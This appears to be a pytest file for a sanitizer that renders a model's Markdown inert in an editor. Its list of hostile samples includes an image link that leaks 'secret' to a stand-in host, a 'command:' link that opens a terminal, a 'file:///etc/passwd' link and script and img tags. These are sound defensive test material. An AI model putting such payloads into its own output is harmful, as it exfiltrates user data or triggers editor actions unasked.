"""Model Markdown is shown inert (issue 28): whatever the model writes, a CommonMark renderer with
raw HTML on (as VS Code's Markdown preview) makes no image, no link, no HTML element of it; prose,
emphasis, code spans and fenced code stay readable."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from perflsp.llm.sanitize import InertMarkdown, inert_markdown, inert_text

RENDER = MarkdownIt("commonmark", {"html": True})
RENDER.validateLink = lambda url: True  # (markdown-it refuses file: links itself; an editor may not)
# the elements CommonMark makes of Markdown syntax that neither links, embeds nor loads
SAFE_TAGS = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5",
             "h6", "hr", "br"}
TAG = re.compile(r"</?([A-Za-z][A-Za-z0-9-]*)")
ATTRIBUTE = re.compile(r"<[A-Za-z][^>]*\s(?:src|href)\s*=", re.IGNORECASE)  # (in an element, not in text)

HOSTILE = [
    "![](https://evil.example/x.png?q=secret)",
    '<img src="https://evil.example/y.png">',
    "[run](command:workbench.action.terminal.new)",
    "[open](file:///etc/passwd)",
    "<https://evil.example/autolink>",
    '<a href="command:x">click</a>',
    "<script>alert(1)</script>",
    "[ref]\n\n[ref]: https://evil.example/ref.png",
    "![alt][ref]",
    "\\`![i](https://evil.example/z.png)`",
    "`code [x](y)` then ![](http://e/1.png)",
    "- item\n  ```\n  a<b\n  ```\n- <img src=x>",
    "```\nfenced <img src=x>\n```\n![](http://e/2.png)",
    "````\n```\n<b>still code</b>\n````",
    "```a`b\n<img src=x>",
    "> quote ![q](http://e/q.png)\n> ```\n> <img src=y>\n",
    "<div>\n![](http://e/3.png)\n</div>",
    "&lt;img src=x&gt; &#91;a&#93;(command:y)",
    "   ```cuda title<x>\ny[i] = a * x[i];\n   ```",
]
FRAGMENTS = st.sampled_from(["![", "[", "]", "(", ")", "<", ">", "`", "``", "```", "~~~", "\n", " ", "    ", "\\",
                             "command:x", "file:///a", "https://e/p.png", "img src=", "a href=", "!", ":", "\"",
                             "- ", "> ", "* ", "&lt;", "word", "\n\n"])


def html_elements(markdown: str) -> set[str]:
    return {m.group(1).lower() for m in TAG.finditer(RENDER.render(markdown))}


def assert_inert(markdown: str) -> None:
    html = RENDER.render(markdown)
    assert html_elements(markdown) <= SAFE_TAGS, (markdown, html)
    assert not ATTRIBUTE.search(html), (markdown, html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_no_image_link_or_html(text: str):
    assert_inert(inert_markdown(text))


def test_the_hostile_cases_are_hostile_as_written():
    hostile = [t for t in HOSTILE if html_elements(t) - SAFE_TAGS or ATTRIBUTE.search(RENDER.render(t))]
    assert len(hostile) >= 12


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, max_size=40).map("".join))
def test_any_arrangement_of_markdown_syntax_renders_inert(text: str):
    assert_inert(inert_markdown(text))


@settings(max_examples=200, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30).map("".join), st.integers(1, 7))
def test_a_stream_made_inert_chunk_by_chunk_equals_the_whole(text: str, size: int):
    stream = InertMarkdown()
    parts = [stream.feed(text[i:i + size]) for i in range(0, len(text), size)]
    assert "".join(parts) + stream.flush() == inert_markdown(text)


def test_prose_code_and_fences_read_the_same():
    text = ("**Bandwidth-bound.** Each thread loads 8 bytes (L3): `y[i] = a * x[i]` is one FMA.\n"
            "- fuse it with its neighbours\n\n```cuda\nif (i < n) y[i] += x[i];\n```\n")
    out = inert_markdown(text)
    html = RENDER.render(out)
    assert "<strong>Bandwidth-bound.</strong>" in html and "<code>y[i] = a * x[i]</code>" in html
    assert "<li>fuse it with its neighbours</li>" in html
    assert '<pre><code class="language-cuda">if (i &lt; n) y[i] += x[i];' in html


def test_an_unclosed_fence_is_closed_so_what_follows_is_not_code():
    out = inert_markdown("```\nint x;")
    html = RENDER.render(out + "\n\n*static estimate*")
    assert "<em>static estimate</em>" in html


def test_plain_text_surfaces_get_one_line_without_a_link():
    assert inert_text("see [this](command:x)\nnow\x1b[31m") == "see [this] (command:x) now"
